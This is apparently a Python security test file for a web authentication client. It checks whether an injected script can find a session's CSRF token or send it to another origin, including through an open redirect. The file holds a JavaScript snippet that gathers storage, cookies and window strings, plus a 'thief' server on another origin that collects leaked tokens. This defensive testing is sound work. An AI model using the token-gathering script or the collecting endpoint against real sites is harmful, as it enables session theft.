"""What a script that got into a page can take along: tokens in storage, and tokens that
a client sends elsewhere (CWE-922, CWE-201; ASVS 5.0 V14.3.3; guide: XSS)."""

from __future__ import annotations

import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.middleware.cors import CORSMiddleware
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Route
from tests.attacks.serving import served
from tests.browser.conftest import browser, chromium, visit  # noqa: F401 - fixtures

from ringfence.identity.client.files import read_client

LOOT = """() => [
    ...Object.values(localStorage), ...Object.values(sessionStorage),
    document.cookie, ...Object.values(window).filter((it) => typeof it === "string"),
].join(" ")"""

# As most tutorials have it.
NAIVE = """
const answer = await fetch("/auth/token", {method: "POST"});
localStorage.setItem("token", (await answer.json()).csrf_token);
window.send = (url, init) => fetch(url, {
    ...init, headers: {"X-CSRF-Token": localStorage.getItem("token")}});
"""

OURS = """
import { ringfence } from "/auth/assets/ringfence.js";
const rf = ringfence();
await rf.me();
window.send = rf.fetch;
"""

SECRET = "the-token-of-this-session"
PAGE = "<!doctype html><title>x</title><script type=module src=/app.js></script>"


async def told(request):
    answer = JSONResponse({"id": "1", "email": "a@b.c", "csrf_token": SECRET})
    answer.set_cookie("session", SECRET, httponly=True)
    return answer


class Site:
    """A site of a developer with or without the client, and no policy at all, so that
    only the client stands between the token and the attacker."""

    def __init__(self, script):
        self.script = script

    async def start(self, request):
        return HTMLResponse(PAGE)

    async def app_js(self, request):
        return Response(self.script, media_type="text/javascript")

    async def client(self, request):
        content = read_client()["ringfence.js"].content
        return Response(content, media_type="text/javascript")

    async def onward(self, request):  # an open redirect
        return RedirectResponse(request.query_params["to"], 307)

    async def got(self, request):
        return JSONResponse(request.headers.get("x-csrf-token"))

    def app(self, port):
        routes = [
            Route("/", self.start),
            Route("/app.js", self.app_js),
            Route("/auth/assets/ringfence.js", self.client),
            Route("/auth/me", told),
            Route("/auth/token", told, methods=["POST"]),
            Route("/onward", self.onward, methods=["POST"]),
            Route("/got", self.got, methods=["POST"]),
        ]
        return Starlette(routes=routes)


class Thief:
    """Another origin, which welcomes whatever comes."""

    def __init__(self):
        self.tokens = []

    async def take(self, request):
        self.tokens.append(request.headers.get("x-csrf-token"))
        return JSONResponse("thanks")

    def app(self, port):
        welcome = Middleware(
            CORSMiddleware,
            allow_origins=["*"],
            allow_methods=["*"],
            allow_headers=["*"],
        )
        routes = [Route("/take", self.take, methods=["POST", "GET"])]
        return Starlette(routes=routes, middleware=[welcome])


@pytest.fixture(params=["naive", "ours"])
def victim(request, visit):  # noqa: F811 - the fixture
    """A signed-in page, the thief, and whether the client is ours."""
    is_ours = request.param == "ours"
    thief = Thief()
    with (
        served(Site(OURS if is_ours else NAIVE).app) as site,
        served(thief.app) as elsewhere,
    ):
        page = visit(site.url).page
        page.goto("/")
        page.wait_for_function("window.send")
        yield page, thief, f"{elsewhere.url}/take", is_ours


def send(page, url):
    return page.evaluate(
        """url => send(url, {method: "POST", body: "x"})
            .then((answer) => answer.json(), (error) => error.name)""",
        url,
    )


def test_an_injected_script_finds_no_token(victim):
    page, _, _, is_ours = victim
    assert (SECRET in page.evaluate(LOOT)) is not is_ours
    assert send(page, "/got") == SECRET  # honest use


def test_the_token_goes_to_no_other_origin(victim):
    page, thief, elsewhere, is_ours = victim
    assert send(page, elsewhere) == "thanks"
    assert thief.tokens == [None if is_ours else SECRET]


def test_an_open_redirect_takes_no_token_along(victim):
    """Fetch keeps such a header when it follows a redirect."""
    page, thief, elsewhere, is_ours = victim
    answer = send(page, f"/onward?to={elsewhere}")
    assert answer == ("TypeError" if is_ours else "thanks")
    assert thief.tokens == ([] if is_ours else [SECRET])
